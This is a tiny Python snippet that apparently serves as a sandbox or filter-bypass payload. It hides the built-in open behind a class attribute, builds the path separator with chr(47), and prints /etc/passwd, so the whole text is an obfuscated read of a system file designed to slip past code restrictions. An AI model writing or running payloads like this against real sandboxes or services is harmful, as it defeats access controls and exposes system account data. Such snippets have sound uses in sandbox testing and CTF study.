class Kit:
    read = [open]


print(Kit.read[0](chr(47) + "etc/passwd").read())
